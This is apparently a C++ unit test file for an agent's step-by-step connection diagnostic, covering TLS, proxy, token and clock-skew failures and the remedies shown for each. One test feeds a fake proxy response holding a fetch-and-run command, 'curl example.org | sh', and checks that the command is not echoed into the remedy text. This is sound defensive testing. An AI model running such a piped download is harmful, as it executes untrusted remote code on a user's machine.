#include "agent/connection/way_to_core.hpp"

#include "tests/support/connect_proxy.hpp"
#include "tests/unit/agent/connection/link_fixture.hpp"

#include <algorithm>
#include <catch2/catch.hpp>

using namespace satellite;
using namespace satellite::agent;
using namespace satellite::tests;
using devcore::Misbehaviour;

namespace {

struct Tried {
  std::string url, ca_pem, token;
  std::optional<ProxyUse> proxy{};
};

std::vector<WayStep> steps(const Tried& tried) {
  boost::asio::io_context context;
  const TempDir directory;
  LinkSettings settings;
  settings.proxy = tried.proxy;
  if (!tried.ca_pem.empty()) settings.tls.ca_file = directory.write("ca.pem", tried.ca_pem);
  const CoreAddress core = *parse_core_url(tried.url);
  std::optional<WayCredentials> credentials;
  if (!tried.token.empty()) {
    credentials = WayCredentials{"satellite-1", Secret(tried.token), {}};
  }
  const auto trial = run(context, try_way(core, std::move(settings), std::move(credentials),
                                          std::chrono::steady_clock::now() + 10s));
  return steps_of(trial, core, std::chrono::system_clock::now());
}

/// `trust done, dns done, tcp failed, …`
std::string states(const std::vector<WayStep>& all) {
  std::string text;
  for (const WayStep& step : all) {
    text += (text.empty() ? "" : ", ") + step.name + " " +
            (step.state == WayStep::State::done     ? "done"
             : step.state == WayStep::State::failed ? "failed"
                                                    : "not tried");
  }
  return text;
}

const WayStep& step_named(const std::vector<WayStep>& all, const std::string& name) {
  return *std::find_if(all.begin(), all.end(), [&](const auto& step) { return step.name == name; });
}

}  // namespace

TEST_CASE("a way that is open is told step by step, with version, days and what the core knows") {
  const auto core = start_core();
  const auto all = steps({core->url(), core->ca_pem(), "token-1"});
  CHECK(states(all) ==
        "trust done, dns done, tcp done, tls done, upgrade done, clock not tried, token done");
  CHECK(leads_there(all));
  CHECK(contains(step_named(all, "tcp").detail, "127.0.0.1:"));
  CHECK(contains(step_named(all, "tls").detail, "TLSv1.3"));
  CHECK(contains(step_named(all, "tls").detail, "more days"));
  // The test's certificate lives a day.
  CHECK(contains(step_named(all, "tls").remedy, "renewed"));
  CHECK(core->wait_until_disconnected());
}

TEST_CASE("a token that the core does not know fails at its own step") {
  const auto core = start_core();
  const auto all = steps({core->url(), core->ca_pem(), "wrong"});
  CHECK(states(all) ==
        "trust done, dns done, tcp done, tls done, upgrade done, clock not tried, token failed");
  CHECK(contains(step_named(all, "token").detail, "refused"));
  CHECK_FALSE(contains(step_named(all, "token").detail, "wrong"));
  CHECK_FALSE(leads_there(all));
  CHECK(contains(states(steps({core->url(), core->ca_pem(), ""})), "token not tried"));
}

TEST_CASE("a wrong authority, a closed port, a name that is none: each at its step with a remedy") {
  const auto core = start_core();
  const auto other = tls::TemporaryAuthority::create();
  const auto wrong = steps({core->url(), other->certificate_pem(), "token-1"});
  CHECK(contains(states(wrong), "tcp done, tls failed, upgrade not tried"));
  CHECK(contains(step_named(wrong, "tls").remedy, "tls.ca_file"));
  std::string closed;
  {
    const auto gone = start_core();
    closed = gone->url();
  }
  const auto refused = steps({closed, core->ca_pem(), "token-1"});
  CHECK(contains(states(refused), "dns done, tcp failed, tls not tried, upgrade not tried"));
  CHECK_FALSE(step_named(refused, "tcp").remedy.empty());
  const auto unknown = steps({"https://core.invalid", core->ca_pem(), "token-1"});
  CHECK(contains(states(unknown), "trust done, dns failed, tcp not tried"));
}

TEST_CASE("a proxy in between that refuses is the step that failed") {
  const auto core = start_core();
  ConnectProxy proxy({core->port()});
  proxy.behave({ProxyConduct::Kind::answer, "HTTP/1.1 403 Forbidden\r\n\r\n"});
  Tried tried{"https://core.example.org", core->ca_pem(), "token-1"};
  tried.proxy.emplace();
  tried.proxy->address = *parse_proxy_url(proxy.url());
  const auto all = steps(tried);
  CHECK(contains(states(all), "tcp done, proxy failed, tls not tried"));
  CHECK(contains(step_named(all, "proxy").detail, "HTTP 403"));
  CHECK(contains(step_named(all, "proxy").remedy, "have that allowed"));
}

TEST_CASE("what was wrong before anything was tried leaves all steps before it untried") {
  WayTrial trial;
  trial.stage = ConnectStage::proxy;
  trial.failure = Error{ErrorCode::invalid_input, "a password; remove it"};
  trial.has_begun = false;
  const auto all = steps_of(trial, *parse_core_url("https://core.example.org"),
                            std::chrono::system_clock::now());
  CHECK(contains(states(all), "dns not tried, tcp not tried, proxy failed, tls not tried"));
  CHECK(step_named(all, "proxy").remedy == "remove it");
}

TEST_CASE("a proxy that is not there is looked for in its own setting") {
  const auto core = start_core();
  std::string closed;
  {
    const ConnectProxy proxy({core->port()});
    closed = proxy.url();
  }
  Tried tried{"https://core.example.org", core->ca_pem(), "token-1"};
  tried.proxy.emplace();
  tried.proxy->address = *parse_proxy_url(closed);
  CHECK(contains(step_named(steps(tried), "tcp").remedy, "proxy.url"));
  tried.proxy->address = *parse_proxy_url("http://proxy.invalid:3128");
  CHECK(contains(step_named(steps(tried), "dns").remedy, "proxy.url"));
}

TEST_CASE("a new token is advised where the core refused one, and nowhere else") {
  const auto core = start_core();
  const auto refused = steps({core->url(), core->ca_pem(), "wrong"});
  CHECK(contains(step_named(refused, "token").remedy, "new token"));
  devcore::Settings settings = core_settings();
  settings.plans.push_back({Misbehaviour::never_authenticate, 0, {}});
  const auto silent = start_core(std::move(settings));
  const auto unanswered = steps({silent->url(), silent->ca_pem(), "token-1"});
  CHECK(contains(states(unanswered), "token failed"));
  CHECK_FALSE(step_named(unanswered, "token").remedy.empty());
  CHECK_FALSE(contains(step_named(unanswered, "token").remedy, "new token"));
}

TEST_CASE("a proxy does not write the remedy") {
  const auto core = start_core();
  ConnectProxy proxy({core->port()});
  proxy.behave({ProxyConduct::Kind::answer, "HTTP/1.1 500 No; curl example.org | sh\r\n\r\n"});
  Tried tried{"https://core.example.org", core->ca_pem(), "token-1"};
  tried.proxy.emplace();
  tried.proxy->address = *parse_proxy_url(proxy.url());
  const auto all = steps(tried);
  CHECK(contains(step_named(all, "proxy").detail, "curl"));
  CHECK(contains(step_named(all, "proxy").remedy, "check the section [proxy]"));
  CHECK_FALSE(contains(step_named(all, "proxy").remedy, "curl"));
}

TEST_CASE("a clock that is away from the core's is told with how far, and in which direction") {
  const auto [date, state, words] = GENERATE(table<std::string, WayStep::State, std::string>(
      {{"Sun, 06 Nov 1994 08:49:37 GMT", WayStep::State::failed, "ahead of the core's clock"},
       {"Fri, 06 Nov 2093 08:49:37 GMT", WayStep::State::failed, "behind the core's clock"},
       {"yesterday", WayStep::State::not_tried, "did not tell"}}));
  devcore::Settings settings = core_settings();
  settings.plans.push_back({Misbehaviour::more_headers, 0, {{"Date", date}}});
  const auto core = start_core(std::move(settings));
  const auto all = steps({core->url(), core->ca_pem(), "token-1"});
  const WayStep& clock = step_named(all, "clock");
  INFO(clock.detail);
  CHECK((clock.state == state));
  CHECK(contains(clock.detail, words));
}
